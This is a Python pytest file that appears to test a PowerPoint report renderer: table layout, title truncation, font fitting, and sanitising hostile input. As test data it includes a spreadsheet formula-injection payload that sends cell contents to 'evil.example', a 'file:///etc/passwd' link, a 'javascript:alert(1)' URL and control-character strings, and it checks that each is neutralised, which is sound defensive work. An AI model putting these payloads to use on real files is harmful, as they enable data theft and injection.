"""Tables and texts: whole words on the page, links to the web only, nothing that breaks a file."""

from __future__ import annotations

import io
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pptx import Presentation
from pptx.util import Pt

from bvreport.render.measure import Font, lines
from bvreport.render.pptx import pptx
from bvreport.render.pptx.fitting import Words, fitted
from bvreport.render.pptx.lettering import Lettering
from bvreport.render.pptx.places import Box, Place
from bvreport.render.slides import Cell, ChartKind, Deck, Figure, Layout, Series, Slide, Table
from tests import deck_sample as sample
from tests.pptx_deck import (
    TEMPLATES,
    bar,
    chart_slide,
    drawn,
    table_of,
    workbook_rows,
)
from tests.pptx_lint import A, faults

LONG = (
    "Every single word of this title was written by somebody who could not stop writing and who "
    "believed that more words make a better case, although nobody in the room has ever read a "
    "title of three hundred characters to its end, which is why it has to be shortened here, now"
)


# --- tables --------------------------------------------------------------------------------------


def test_a_table_has_a_head_row_and_its_cells_words() -> None:
    (slide,) = drawn(Slide(anchor="t", layout=Layout.TABLE_FULL, title="T", table=sample.OPTIONS))

    rows = table_of(slide)
    assert rows[0] == list(sample.OPTIONS.head)
    assert rows[1] == ["Revenue", *(cell.text for cell in sample.OPTIONS.rows[0][1:])]
    (frame,) = [shape for shape in slide.shapes if shape.has_table]
    assert frame.table.first_row


def test_grades_are_chips_by_fill_and_an_outline_for_the_inferred() -> None:
    (slide,) = drawn(Slide(anchor="t", layout=Layout.TABLE_FULL, title="T", table=sample.OPTIONS))

    (frame,) = [shape for shape in slide.shapes if shape.has_table]
    chips = [row.cells[3]._tc.tcPr for row in list(frame.table.rows)[1:5]]
    fills = [chip.find(f"{A}solidFill/{A}schemeClr") for chip in chips]
    assert [None if fill is None else fill.get("val") for fill in fills] == [
        "tx1",
        "accent1",
        "accent6",
        None,
    ]
    assert chips[3].find(f"{A}lnL//{A}schemeClr").get("val") == "tx1"


def test_a_long_register_goes_on_on_the_next_slides_without_losing_a_row() -> None:
    table = sample.register(60)
    slides = drawn(Slide(anchor="r", layout=Layout.TABLE_FULL, title="Register", table=table))

    titles = [slide.shapes.title.text_frame.text for slide in slides]
    assert titles == [f"Register ({n} of {len(slides)})" for n in range(1, len(slides) + 1)]
    keys = [row[0] for slide in slides for row in table_of(slide)[1:]]
    assert keys == [row[0].text for row in table.rows]
    counts = [len(table_of(slide)) for slide in slides]
    assert 2 * min(counts) > max(counts)  # no slide with a lonely row


def test_pages_of_one_table_have_one_size_and_the_same_columns() -> None:
    short = sample.register(4)
    long = replace(
        short,
        rows=tuple((*row[:1], Cell(text="a long quote " * 9), *row[2:]) for row in short.rows),
    )
    pages = [
        Slide(anchor=f"r{n}", layout=Layout.TABLE_FULL, title=f"Register {n}", table=table)
        for n, table in enumerate((short, long))
    ]

    frames = [next(s for s in slide.shapes if s.has_table) for slide in drawn(*pages)]
    widths = [[column.width for column in frame.table.columns] for frame in frames]
    sizes = [{run.get("sz") for run in frame._element.iter(f"{A}rPr")} for frame in frames]
    assert widths[0] == widths[1]
    assert sizes[0] == sizes[1]
    assert len(sizes[0]) == 1


def test_cells_link_to_the_web_only() -> None:
    rows = (
        (Cell(text="good", link="https://e.example/?a=1&b=<2>"),),
        (Cell(text="bad", link="file:///etc/passwd"),),
    )
    table = Table(key="t", label="L", head=("Link",), rows=rows, widths=(1.0,))
    (slide,) = drawn(Slide(anchor="t", layout=Layout.TABLE_FULL, title="T", table=table))

    links = {rel.target_ref for rel in slide.part.rels.values() if rel.is_external}
    assert links == {"https://e.example/?a=1&b=%3C2%3E"}


# --- text that strains --------------------------------------------------------------------------


def test_a_title_of_three_hundred_letters_ends_in_an_ellipsis_on_two_lines() -> None:
    (slide,) = drawn(Slide(anchor="t", layout=Layout.TEXT, title=LONG, bullets=("x",)))

    title = slide.shapes.title.text_frame
    assert title.text.endswith("…")
    assert title.paragraphs[0].runs[0].font.size == Pt(20)


def test_figures_side_by_side_have_one_size() -> None:
    figures = (
        Figure(value="$1.84M", label="short"),
        Figure(value="2.6 to 2.9 days", label="a longer label " * 6),
    )
    (slide,) = drawn(Slide(anchor="s", layout=Layout.STATEMENT, title="T", figures=figures))

    sizes = {slide.placeholders[n].text_frame.paragraphs[0].runs[0].font.size for n in (51, 52)}
    assert len(sizes) == 1
    assert sizes != {None}


FORMULAS = ('=HYPERLINK("http://evil.example/?"&A2,"x")', "@SUM(1)", "+1+1", "http://x.example")


def test_a_minus_is_not_left_behind_by_its_amount() -> None:
    (slide,) = drawn(Slide(anchor="t", layout=Layout.TEXT, title="A loss of -$120K, run-rate -2"))

    assert slide.shapes.title.text == "A loss of \u2011$120K, run-rate -2"


def test_formulas_and_addresses_in_titles_stay_text() -> None:
    series = Series(name="=1+1", values=(1.0, 2.0, 3.0, 4.0), labels=FORMULAS)
    blob = pptx(
        sample.sample_deck((chart_slide(bar(categories=FORMULAS, series=(series,))),)), TEMPLATES
    )

    assert faults(blob) == []
    (slide,) = Presentation(io.BytesIO(blob)).slides
    (shape,) = [shape for shape in slide.shapes if shape.has_chart]
    rows = workbook_rows(shape.chart.part.chart_workbook.xlsx_part.blob)
    assert [row[0] for row in rows[1:]] == list(FORMULAS)


def test_a_deck_of_markup_and_unsafe_links_has_no_fault() -> None:
    assert faults(pptx(sample.hostile_deck(), TEMPLATES)) == []


EVIL = "a\x00b\x1b\x0b\x0c\ud83d\ufffe\u202ec _x000D_ \r\n<&>\"'"


def everywhere(text: str) -> Deck:
    """A deck that says one text in every place."""
    series = Series(name=text, values=(1.0, 2.0), labels=(text, text))
    spec = bar(label=text, categories=(text, text), series=(series,), alt=text)
    row = (Cell(text=text, link=text, grade=text), Cell(text=text, grade="A"))
    table = Table(
        key=text, label=text, head=(text, text), rows=(row, row), widths=(1.0, 2.0), alt=text
    )
    common = {"anchor": "x", "title": text, "source": text, "notes": text}
    return Deck(
        kind=text,
        title=text,
        subject=text,
        company=text,
        keywords=(text,),
        created="2026-07-07",
        language=text,
        caveat=text,
        slides=(
            Slide(layout=Layout.COVER, subtitle=text, caption=text, **common),
            Slide(layout=Layout.SECTION, subtitle=text, **common),
            Slide(
                layout=Layout.STATEMENT,
                figures=(Figure(value=text, label=text, lines=(text,)),),
                **common,
            ),
            Slide(layout=Layout.CHART, charts=(spec,), bullets=(text,), **common),
            *(
                Slide(layout=Layout.CHART_FULL, charts=(replace(spec, kind=kind),), **common)
                for kind in ChartKind
            ),
            Slide(layout=Layout.TABLE, table=table, bullets=(text,), **common),
        ),
    )


def test_control_characters_and_lone_surrogates_are_dropped_everywhere() -> None:
    blob = pptx(everywhere(EVIL), TEMPLATES)

    assert faults(blob) == []
    (cover, *_) = Presentation(io.BytesIO(blob)).slides
    assert cover.shapes.title.text_frame.text == "ab c _x000D\u2060_ <&>\"'"


TEXTS = st.text(min_size=1, max_size=60).filter(lambda text: text.strip() != "")


@settings(max_examples=12)
@given(text=TEXTS)
def test_any_text_in_every_place_makes_a_readable_file(text: str) -> None:
    blob = pptx(everywhere(text), TEMPLATES)

    found = [fault for fault in faults(blob) if "empty placeholder" not in fault]
    assert [
        fault for fault in found if "without words" not in fault and "no title" not in fault
    ] == []


def test_of_the_addresses_in_takeaways_only_those_become_links_that_the_deck_knows() -> None:
    known = "https://github.com/octo/shop/pull/3"
    text = f"found by rules; {known}, see also javascript:alert(1) or https://evil.example/x"
    slides = (
        Slide(anchor="a", layout=Layout.TEXT, title="Card", bullets=(text,)),
        Slide(anchor="b", layout=Layout.TEXT, title="Cut", bullets=("at https://e.example/abc…",)),
    )
    deck = replace(sample.sample_deck(slides), links=frozenset({known}))
    slide, cut = Presentation(io.BytesIO(pptx(deck, TEMPLATES))).slides

    links = [rel.target_ref for rel in slide.part.rels.values() if rel.is_external]
    assert links == ["https://github.com/octo/shop/pull/3"]
    assert slide.placeholders[41].text_frame.text == text
    assert not [rel for rel in cut.part.rels.values() if rel.is_external]


# --- room for a wider font -----------------------------------------------------------------------


@pytest.mark.parametrize("words", [Words(most=24, least=20), Words(most=24, least=20, gap=8)])
@pytest.mark.parametrize(("count", "is_smaller"), [(8, False), (11, True)])
def test_a_text_is_set_so_that_it_fits_in_a_wider_font(
    words: Words, count: int, is_smaller: bool
) -> None:
    # given two lines of room, and words that fill little of it or nearly all
    place = Place(box=Box(0, 0, 8.0, 0.85), lettering=Lettering(points=24, font=Font.SERIF))
    said = [" ".join(["delivery"] * count)]
    assert len(lines(said[0], Font.SERIF, 24, 8.0)) <= 2

    found = fitted(said, place, words)

    assert not found.shortened
    assert (found.points < 24) is is_smaller


def test_no_word_is_lost_for_the_sake_of_a_wider_font() -> None:
    place = Place(box=Box(0, 0, 8.0, 0.85), lettering=Lettering(points=24, font=Font.SERIF))
    said = [" ".join(["delivery"] * 12)]

    found = fitted(said, place, Words(most=24, least=24))

    assert list(found.paragraphs) == said
    assert found.points == 24
